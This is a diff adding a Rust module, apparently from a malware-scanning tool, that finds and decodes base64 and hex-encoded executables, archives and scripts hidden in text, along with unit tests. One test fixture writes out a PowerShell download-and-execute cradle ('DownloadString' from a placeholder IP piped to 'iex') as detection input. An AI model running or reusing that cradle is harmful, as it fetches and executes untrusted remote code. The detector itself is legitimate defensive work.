@@ -1,0 +1,733 @@
+//! Programs and containers written in text: runs of base64 and of hexadecimal or decimal numbers.
+//!
+//! A run is decoded only where its head is that of something that counts, so certificates, pictures and ordinary data
+//! cost nothing. Mails are left out: their parts are decoded by the reader of mails.
+
+use std::borrow::Cow;
+use std::ops::Range;
+
+use crate::formats::base64;
+use crate::identify;
+use crate::limits::Halt;
+use crate::model::{Artifact, Fact, Family, Kind, Trouble};
+use crate::text;
+
+use super::{Child, Nest};
+
+/// Characters of a run, at least.
+const SHORTEST: usize = 64;
+
+/// Characters of one piece of a run that goes on behind a line's end or another string, at least.
+const PIECE: usize = 16;
+
+/// Children of one artifact, at most.
+const CHILDREN: usize = 64;
+
+/// Characters between two pieces of a run: a line's end, or the end of one string and the start of the next.
+const GAP: usize = 48;
+
+/// Text-like kinds.
+pub(super) const KINDS: &[Kind] = &[
+    Kind::Text,
+    Kind::Html,
+    Kind::Svg,
+    Kind::Xml,
+    Kind::Json,
+    Kind::Csv,
+    Kind::Css,
+    Kind::Ics,
+    Kind::Vcf,
+    Kind::Ldif,
+    Kind::Email,
+    Kind::VbaSource,
+    Kind::XlmSource,
+    Kind::Js,
+    Kind::Vbs,
+    Kind::Wsf,
+    Kind::Sct,
+    Kind::Hta,
+    Kind::Ps1,
+    Kind::Bat,
+    Kind::Sh,
+    Kind::Py,
+    Kind::Pl,
+    Kind::Rb,
+    Kind::Php,
+    Kind::Lua,
+    Kind::Au3,
+    Kind::AppleScript,
+    Kind::MsBuild,
+    Kind::Reg,
+    Kind::Inf,
+    Kind::Cert,
+    Kind::Msc,
+    Kind::Url,
+    Kind::Desktop,
+];
+
+pub(super) fn run(artifact: &Artifact, nest: &mut Nest<'_>) -> Result<(), Trouble> {
+    let wide =
+        text::sniff(artifact.data.get(..4096).unwrap_or(&artifact.data)).is_some_and(|charset| {
+            !charset.encoding.is_ascii_compatible() && charset.encoding != encoding_rs::ISO_2022_JP
+        });
+    // Offsets are those of the bytes: a text of two bytes a character has none.
+    let text: Cow<'_, [u8]> = if wide {
+        match text::to_utf8(&artifact.data) {
+            Cow::Borrowed(text) => Cow::Borrowed(text.as_bytes()),
+            Cow::Owned(text) => Cow::Owned(text.into_bytes()),
+        }
+    } else {
+        Cow::Borrowed(&artifact.data)
+    };
+    let mut sink = Sink {
+        nest,
+        wide,
+        pushed: 0,
+    };
+    base64_runs(&text, &mut sink)?;
+    number_runs(&text, &mut sink)
+}
+
+/// Where decoded runs go.
+struct Sink<'n, 'b> {
+    nest: &'n mut Nest<'b>,
+    wide: bool,
+    pushed: usize,
+}
+
+impl Sink<'_, '_> {
+    /// Pushes what a run decodes to, where it is something that counts; tells whether it was.
+    fn offer(&mut self, decoded: Vec<u8>, at: Range<usize>) -> Result<bool, Trouble> {
+        self.nest.tick()?;
+        let identity = identify::identify(&decoded, self.nest.budget());
+        if !counts(identity.kind) {
+            return Ok(false);
+        }
+        if self.pushed >= CHILDREN {
+            if self.pushed == CHILDREN {
+                self.pushed = self.pushed.saturating_add(1);
+                self.nest.note(Fact::Limit {
+                    halt: Halt::Ceiling("64 encoded files"),
+                    what: format!("from offset {}", at.start),
+                });
+            }
+            return Ok(true);
+        }
+        self.pushed = self.pushed.saturating_add(1);
+        let child = Child::new("decoded-text", decoded);
+        let child = if self.wide { child } else { child.at(at) };
+        self.nest.push(child)?;
+        Ok(true)
+    }
+}
+
+/// What is worth a child: programs, containers, documents, scripts, pages. Certificates, pictures, fonts, plain text and data are not.
+fn counts(kind: Kind) -> bool {
+    match kind.family() {
+        Family::Executable
+        | Family::Shortcut
+        | Family::Installer
+        | Family::Archive
+        | Family::Disk
+        | Family::Script
+        | Family::Ole
+        | Family::Ooxml
+        | Family::Odf
+        | Family::OneNote
+        | Family::Vba
+        | Family::Compressed => kind != Kind::OleStream,
+        Family::Pdf | Family::Web => true,
+        Family::Mail => kind != Kind::Eml,
+        _ => kind == Kind::Rtf,
+    }
+}
+
+/// Whether a run may decode to something that counts: by its first bytes.
+fn promising(head: &[u8]) -> bool {
+    const MARKS: &[&[u8]] = &[
+        b"MZ",
+        b"\x7fELF",
+        b"PK\x03\x04",
+        b"PK\x05\x06",
+        b"\xd0\xcf\x11\xe0",
+        b"\x4c\0\0\0\x01\x14\x02",
+        b"MSCF",
+        b"\x1f\x8b",
+        b"Rar!",
+        b"7z\xbc\xaf",
+        b"%PDF-",
+        b"{\\rt",
+        b"\xcf\xfa\xed\xfe",
+        b"\xca\xfe\xba\xbe",
+        b"ActiveMime",
+        b"ITSF",
+        b"#@~^",
+        b"BZh",
+        b"\xfd7zXZ",
+        b"dex\n",
+        b"\xe4\x52\x5c\x7b",
+        b"!BDN",
+        b"\xff\xfe",
+        b"\xef\xbb\xbf",
+    ];
+    if MARKS.iter().any(|mark| head.starts_with(mark)) {
+        return true;
+    }
+    // Text, of one or two bytes a character: a script or a page.
+    let plain = |byte: &u8| matches!(byte, b' '..=b'~' | b'\t' | b'\r' | b'\n');
+    let pairs = head.as_chunks::<2>().0;
+    head.len() >= 16
+        && (head.iter().all(plain) || pairs.iter().all(|[low, high]| plain(low) && *high == 0))
+}
+
+/// Runs of base64, in one pass. A run is passed over by probing every [`PIECE`]th byte until one is of the alphabet.
+fn base64_runs(text: &[u8], sink: &mut Sink<'_, '_>) -> Result<(), Trouble> {
+    let mut at = 0usize;
+    while let Some(start) = next_piece(text, at) {
+        sink.nest.tick()?;
+        let pieces = chain(text, start);
+        let end = pieces
+            .last()
+            .map_or(start, |piece| piece.end)
+            .max(start.saturating_add(1));
+        at = end;
+        let total: usize = pieces.iter().map(Range::len).sum();
+        if total < SHORTEST {
+            continue;
+        }
+        forwards(text, &pieces, sink)?;
+        backwards(text, &pieces, sink)?;
+    }
+    Ok(())
+}
+
+/// Pieces of one run at which decoding starts, at most: a run may stand behind a word of the same alphabet.
+const STARTS: usize = 8;
+
+/// Bytes in front of a run's pieces whose decoding is tried.
+const HEAD: usize = 32;
+
+fn forwards(text: &[u8], pieces: &[Range<usize>], sink: &mut Sink<'_, '_>) -> Result<(), Trouble> {
+    let promises = |piece: &&Range<usize>| {
+        let head = text
+            .get(piece.start..piece.end.min(piece.start.saturating_add(HEAD)))
+            .unwrap_or_default();
+        promising(&base64::decode(head).data)
+    };
+    let mut first = 0usize;
+    for _ in 0..STARTS {
+        let Some(rest) = pieces.get(first..) else {
+            break;
+        };
+        let Some(skipped) = rest.iter().position(|piece| promises(&piece)) else {
+            break;
+        };
+        first = first.saturating_add(skipped);
+        let run = pieces.get(first..).unwrap_or_default();
+        let joined = join(text, run);
+        if joined.len() < SHORTEST {
+            break;
+        }
+        let range =
+            run.first().map_or(0, |piece| piece.start)..run.last().map_or(0, |piece| piece.end);
+        if sink.offer(base64::decode(&joined).data, range)? {
+            break;
+        }
+        first = first.saturating_add(1);
+    }
+    Ok(())
+}
+
+/// A run that was turned around: its padding, if any, stands in front.
+fn backwards(text: &[u8], pieces: &[Range<usize>], sink: &mut Sink<'_, '_>) -> Result<(), Trouble> {
+    let Some(last) = pieces.last() else {
+        return Ok(());
+    };
+    let mut head = text
+        .get(last.end.saturating_sub(HEAD).max(last.start)..last.end)
+        .unwrap_or_default()
+        .to_vec();
+    head.reverse();
+    let decoded = base64::decode(&head).data;
+    // Text turned around promises nothing by its look, since all text does.
+    if !promising(&decoded)
+        || decoded.iter().all(u8::is_ascii)
+            && !decoded.starts_with(b"MZ")
+            && !decoded.starts_with(b"PK")
+    {
+        return Ok(());
+    }
+    let mut joined = join(text, pieces);
+    joined.reverse();
+    let range = pieces.first().map_or(0, |piece| piece.start)..last.end;
+    sink.offer(base64::decode(&joined).data, range)?;
+    Ok(())
+}
+
+fn join(text: &[u8], pieces: &[Range<usize>]) -> Vec<u8> {
+    pieces
+        .iter()
+        .filter_map(|piece| text.get(piece.clone()))
+        .collect::<Vec<_>>()
+        .concat()
+}
+
+fn is_of_run(byte: u8) -> bool {
+    base64::is_base64(byte) || byte == b'='
+}
+
+/// Start of the next stretch of at least [`PIECE`] characters of the alphabet, from `at` on.
+fn next_piece(text: &[u8], mut at: usize) -> Option<usize> {
+    loop {
+        // A stretch that long must cover the probed byte.
+        let probe = at.checked_add(PIECE - 1)?;
+        if !is_of_run(*text.get(probe)?) {
+            at = probe.checked_add(1)?;
+            continue;
+        }
+        let window = text.get(at..probe)?;
+        let back = window
+            .iter()
+            .rev()
+            .take_while(|byte| is_of_run(**byte))
+            .count();
+        let start = probe.saturating_sub(back);
+        let len = back.saturating_add(length_at(text, probe));
+        if len >= PIECE {
+            return Some(start);
+        }
+        at = start.checked_add(len)?.checked_add(1)?;
+    }
+}
+
+/// Characters of the alphabet from `at` on.
+fn length_at(text: &[u8], at: usize) -> usize {
+    text.get(at..)
+        .unwrap_or_default()
+        .iter()
+        .take_while(|byte| is_of_run(**byte))
+        .count()
+}
+
+/// The pieces of the run that starts at `start`: it goes on over line ends and from one string to the next.
+fn chain(text: &[u8], start: usize) -> Vec<Range<usize>> {
+    let mut pieces = Vec::new();
+    let mut at = start;
+    // Ends because each piece is at least one character long.
+    loop {
+        let len = length_at(text, at);
+        let end = at.saturating_add(len);
+        pieces.push(at..end);
+        let Some(next) = over_gap(text, end) else {
+            return pieces;
+        };
+        if len < PIECE || length_at(text, next) == 0 {
+            return pieces;
+        }
+        at = next;
+    }
+}
+
+/// Behind a line's end with its indentation, or behind the end of a string, what joins two strings, and the start of the next.
+fn over_gap(text: &[u8], end: usize) -> Option<usize> {
+    let rest = text.get(end..)?;
+    let rest = rest.get(..GAP).unwrap_or(rest);
+    let first = *rest.first()?;
+    if matches!(first, b'"' | b'\'' | b'`') {
+        let close = rest.iter().skip(1).position(|byte| *byte == first)?;
+        let between = rest.get(1..close.checked_add(1)?)?;
+        let joins = |byte: &u8| {
+            matches!(
+                byte,
+                b' ' | b'\t' | b'\r' | b'\n' | b'&' | b'+' | b'_' | b',' | b'.' | b'\\'
+            )
+        };
+        return between
+            .iter()
+            .all(joins)
+            .then(|| end.saturating_add(close).saturating_add(2));
+    }
+    let blank = rest
+        .iter()
+        .take_while(|byte| matches!(byte, b' ' | b'\t' | b'\r' | b'\n'))
+        .count();
+    let broken = rest.get(..blank)?.contains(&b'\n') || rest.get(..blank)?.contains(&b'\r');
+    broken.then(|| end.saturating_add(blank))
+}
+
+/// How the numbers of a run are written.
+#[derive(Debug, Clone, Copy)]
+struct Notation {
+    /// What stands in front of each number, in lower case.
+    prefix: &'static [u8],
+    /// 16 or 10.
+    radix: u8,
+}
+
+#[rustfmt::skip]
+const NOTATIONS: &[Notation] = &[
+    Notation { prefix: b"\\x", radix: 16 },
+    Notation { prefix: b"0x", radix: 16 },
+    Notation { prefix: b"&h", radix: 16 },
+    Notation { prefix: b"%", radix: 16 },
+    Notation { prefix: b"$", radix: 16 },
+    Notation { prefix: b"", radix: 16 },
+    Notation { prefix: b"", radix: 10 },
+];
+
+/// First two bytes of what counts, as they stand in a text: where these are not, no run starts.
+const STARTS_OF_NUMBERS: &[[u8; 2]] = &[
+    *b"MZ",
+    [0x7f, b'E'],
+    *b"PK",
+    [0xd0, 0xcf],
+    [0x4c, 0],
+    *b"MS",
+    [0x1f, 0x8b],
+    *b"Ra",
+    *b"7z",
+    *b"%P",
+    *b"{\\",
+];
+
+/// Runs of numbers, each at least [`SHORTEST`] characters and 32 bytes. Ends because each run is passed over whole.
+fn number_runs(text: &[u8], sink: &mut Sink<'_, '_>) -> Result<(), Trouble> {
+    let mut at = 0usize;
+    while let Some(start) = next_number(text, at) {
+        sink.nest.tick()?;
+        at = start.saturating_add(1);
+        let before = start
+            .checked_sub(1)
+            .and_then(|before| text.get(before))
+            .copied()
+            .unwrap_or(b' ');
+        if before.is_ascii_alphanumeric() {
+            continue;
+        }
+        for notation in NOTATIONS {
+            let Some((decoded, end)) = notation.read(text, start) else {
+                continue;
+            };
+            if end.saturating_sub(start) >= SHORTEST && decoded.len() >= 32 {
+                at = end;
+                sink.offer(decoded, start..end)?;
+                break;
+            }
+        }
+    }
+    Ok(())
+}
+
+/// The next place at which a number may start whose first digits are those of something that counts.
+fn next_number(text: &[u8], from: usize) -> Option<usize> {
+    /// First digits of the first byte in either radix: 4d 7f 50 d0 4c 1f 52 37 25 7b, 77 127 80 208 76 31 82 55 37 123.
+    const FIRST: &[[u8; 2]] = &[
+        *b"4d", *b"7f", *b"50", *b"d0", *b"4c", *b"1f", *b"52", *b"37", *b"25", *b"7b", *b"77",
+        *b"12", *b"80", *b"20", *b"76", *b"31", *b"82", *b"55",
+    ];
+    let mut at = from;
+    loop {
+        let rest = text.get(at..)?;
+        // Digits and letters in any case; what is not the start of a word is passed over fast.
+        let skip = rest.iter().position(|byte| byte.is_ascii_hexdigit())?;
+        let start = at.checked_add(skip)?;
+        let word = text.get(start..)?;
+        let len = word
+            .iter()
+            .take_while(|byte| byte.is_ascii_alphanumeric())
+            .count()
+            .max(1);
+        let digits = match word {
+            [b'0', b'x' | b'X', rest @ ..] => rest,
+            all => all,
+        };
+        let pair = [
+            digits.first()?.to_ascii_lowercase(),
+            digits.get(1)?.to_ascii_lowercase(),
+        ];
+        let begin = start
+            .checked_sub(prefix_before(text, start))
+            .unwrap_or(start);
+        if FIRST.contains(&pair) && begin >= from {
+            return Some(begin);
+        }
+        at = start.checked_add(len)?;
+    }
+}
+
+/// Length of the prefix that ends where the digits start.
+fn prefix_before(text: &[u8], start: usize) -> usize {
+    let two = start
+        .checked_sub(2)
+        .and_then(|at| text.get(at..start))
+        .map(<[u8]>::to_ascii_lowercase);
+    match two.as_deref() {
+        Some(b"\\x" | b"&h") => 2,
+        Some([_, b'%' | b'$']) => 1,
+        _ => 0,
+    }
+}
+
+impl Notation {
+    /// The bytes of the run at `start` and its end; `None` where no run in this notation starts there with something that counts.
+    fn read(self, text: &[u8], start: usize) -> Option<(Vec<u8>, usize)> {
+        let mut out = Vec::new();
+        let mut at = start;
+        let mut end = start;
+        while let Some((byte, after)) = self.number(text, at) {
+            out.push(byte);
+            if out.len() == 2 && !STARTS_OF_NUMBERS.iter().any(|start| out == *start) {
+                return None;
+            }
+            end = after;
+            let Some(next) = self.over_separator(text, after) else {
+                break;
+            };
+            at = next;
+        }
+        (out.len() > 2).then_some((out, end))
+    }
+
+    /// One number with its prefix, and where it ends.
+    fn number(self, text: &[u8], at: usize) -> Option<(u8, usize)> {
+        let begin = at.checked_add(self.prefix.len())?;
+        if !text.get(at..begin)?.eq_ignore_ascii_case(self.prefix) {
+            return None;
+        }
+        let digits = text.get(begin..)?;
+        let digits = digits.get(..3).unwrap_or(digits);
+        if self.radix == 10 {
+            let len = digits
+                .iter()
+                .take_while(|byte| byte.is_ascii_digit())
+                .count();
+            let value = std::str::from_utf8(digits.get(..len)?)
+                .ok()?
+                .parse::<u8>()
+                .ok()?;
+            return Some((value, begin.checked_add(len)?));
+        }
+        let high = digit(*digits.first()?)?;
+        match digits.get(1).copied().and_then(digit) {
+            Some(low) => Some((high << 4 | low, begin.checked_add(2)?)),
+            // A single digit only where a prefix and a separator set it apart.
+            None => (self.prefix.len() == 2 && self.prefix != b"\\x")
+                .then_some((high, begin.checked_add(1)?)),
+        }
+    }
+
+    /// Behind what separates two numbers: up to some blanks, a comma and its like, the end of one string and the start of the next.
+    fn over_separator(self, text: &[u8], end: usize) -> Option<usize> {
+        let rest = text.get(end..)?;
+        let rest = rest.get(..GAP).unwrap_or(rest);
+        let separates = |byte: &u8| {
+            matches!(
+                byte,
+                b' ' | b'\t'
+                    | b'\r'
+                    | b'\n'
+                    | b','
+                    | b';'
+                    | b':'
+                    | b'-'
+                    | b'"'
+                    | b'\''
+                    | b'&'
+                    | b'+'
+                    | b'_'
+                    | b'|'
+                    | b'.'
+            )
+        };
+        let mut len = rest.iter().take_while(|byte| separates(byte)).count();
+        // The sign of the next prefix looks like one that joins two strings.
+        if self.prefix == b"&h"
+            && len > 0
+            && rest
+                .get(len)
+                .is_some_and(|byte| byte.eq_ignore_ascii_case(&b'h'))
+        {
+            len = len.checked_sub(1)?;
+        }
+        if self.radix == 10 && len == 0 || len >= GAP {
+            return None;
+        }
+        end.checked_add(len)
+    }
+}
+
+fn digit(byte: u8) -> Option<u8> {
+    match byte {
+        b'0'..=b'9' => byte.checked_sub(b'0'),
+        b'a'..=b'f' => byte.checked_sub(b'a' - 10),
+        b'A'..=b'F' => byte.checked_sub(b'A' - 10),
+        _ => None,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::unpack::tests::{opened, pe};
+
+    fn encode(data: &[u8]) -> String {
+        const ALPHABET: &[u8; 64] =
+            b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+        data.chunks(3)
+            .map(|chunk| {
+                let bits = chunk
+                    .iter()
+                    .fold(0u32, |bits, byte| bits << 8 | u32::from(*byte))
+                    << (8 * (3 - chunk.len()));
+                (0..4)
+                    .map(|at| {
+                        if at > chunk.len() {
+                            '='
+                        } else {
+                            ALPHABET[(bits >> (18 - 6 * at) & 63) as usize] as char
+                        }
+                    })
+                    .collect::<String>()
+            })
+            .collect()
+    }
+
+    fn kinds(text: &str) -> Vec<Kind> {
+        opened("encoded", text.as_bytes())
+            .0
+            .into_iter()
+            .map(|child| child.kind)
+            .collect()
+    }
+
+    fn lines(text: &str, width: usize, join: &str) -> String {
+        text.as_bytes()
+            .chunks(width)
+            .map(|line| String::from_utf8_lossy(line))
+            .collect::<Vec<_>>()
+            .join(join)
+    }
+
+    #[test]
+    fn base64_of_a_program_is_decoded_however_it_is_laid_out() {
+        let whole = encode(&pe());
+        for text in [
+            format!("the program follows\n{whole}\nand that was it"),
+            format!("x\n\n{}\n\nbye", lines(&whole, 76, "\r\n")),
+            format!("s = \"{}\"", lines(&whole, 60, "\" & _\r\n    \"")),
+            format!("var s = '{}';", lines(&whole, 60, "' +\n '")),
+            format!("AVeryLongWordOfTheSameAlphabet\n{whole}"),
+            format!("s = \"{}\"", whole.chars().rev().collect::<String>()),
+            format!("<a href=\"data:application/octet-stream;base64,{whole}\">x</a>"),
+        ] {
+            let (found, _) = opened("encoded", text.as_bytes());
+            assert_eq!(found.len(), 1, "{text}");
+            assert_eq!(
+                (found[0].kind, found[0].via),
+                (Kind::Pe, Some("decoded-text"))
+            );
+            assert!(found[0].at.is_some());
+            assert!(found[0].data.starts_with(&pe()), "{text}");
+        }
+    }
+
+    #[test]
+    fn base64_in_a_text_of_two_bytes_a_character_and_of_such_a_text() {
+        let wide = |text: &str| {
+            text.encode_utf16()
+                .flat_map(u16::to_le_bytes)
+                .collect::<Vec<u8>>()
+        };
+        let (found, _) = opened("encoded", &wide(&format!("payload: {}\r\n", encode(&pe()))));
+        assert_eq!(
+            (found.len(), found[0].kind, found[0].at.clone()),
+            (1, Kind::Pe, None)
+        );
+        let script = wide(
+            "$c = New-Object Net.WebClient\r\n$c.DownloadString('http://192.0.2.1/a') | iex\r\n",
+        );
+        assert_eq!(
+            kinds(&format!("powershell -enc {}", encode(&script))),
+            [Kind::Ps1]
+        );
+    }
+
+    #[test]
+    fn numbers_of_a_program_are_decoded_in_every_usual_notation() {
+        let join = |separator: &str, write: fn(&u8) -> String| {
+            pe().iter().map(write).collect::<Vec<_>>().join(separator)
+        };
+        for text in [
+            join("", |byte| format!("{byte:02x}")),
+            join("", |byte| format!("{byte:02X}")),
+            join(" ", |byte| format!("{byte:02X}")),
+            join(",", |byte| format!("{byte:02X}")),
+            join("-", |byte| format!("{byte:02X}")),
+            join("", |byte| format!("\\x{byte:02x}")),
+            join("", |byte| format!("%{byte:02x}")),
+            join(" ", |byte| format!("0x{byte:02X}")),
+            join(", ", |byte| format!("0x{byte:x}")),
+            join(",", |byte| format!("&H{byte:X}")),
+            join(",", |byte| format!("{byte}")),
+            lines(&join("", |byte| format!("{byte:02x}")), 64, "\" & _\r\n \""),
+        ] {
+            assert_eq!(
+                kinds(&format!("x = \"{text}\"")),
+                [Kind::Pe],
+                "{}",
+                &text[..60]
+            );
+        }
+    }
+
+    #[test]
+    fn certificates_pictures_and_ordinary_data_are_no_children() {
+        let picture = [b"\x89PNG\r\n\x1a\n".to_vec(), vec![7; 200]].concat();
+        let random: Vec<u8> = (0..600u32)
+            .map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8)
+            .collect();
+        for text in [
+            format!("<img src=\"data:image/png;base64,{}\">", encode(&picture)),
+            format!(
+                "-----BEGIN CERTIFICATE-----\n{}\n-----END CERTIFICATE-----",
+                lines(
+                    &encode(&[&[0x30, 0x82, 4, 0][..], &random].concat()),
+                    64,
+                    "\n"
+                )
+            ),
+            format!("key = {}", encode(&random)),
+            format!(
+                "greeting = {}",
+                encode(
+                    "Just some words of a longer sentence that goes on for a while and ends here."
+                        .as_bytes()
+                )
+            ),
+            "77 lines of text, 90 words each, 144 pages in all: 3,0,0,0,4 and so on".to_owned(),
+            "4d5a".repeat(400),
+            format!("MZ {}", "A".repeat(5000)),
+        ] {
+            assert_eq!(kinds(&text), [], "{text}");
+        }
+        let short = encode(b"MZ");
+        assert_eq!(kinds(&short), []);
+    }
+
+    #[test]
+    fn many_runs_are_capped_and_said() {
+        let text = (0..CHILDREN + 3)
+            .map(|_| encode(&pe()))
+            .collect::<Vec<_>>()
+            .join("\n\nnext: ");
+        let (found, facts) = opened("encoded", text.as_bytes());
+        assert_eq!(found.len(), CHILDREN);
+        assert!(facts.iter().any(|fact| matches!(
+            fact,
+            Fact::Limit {
+                halt: Halt::Ceiling(_),
+                ..
+            }
+        )));
+    }
+}
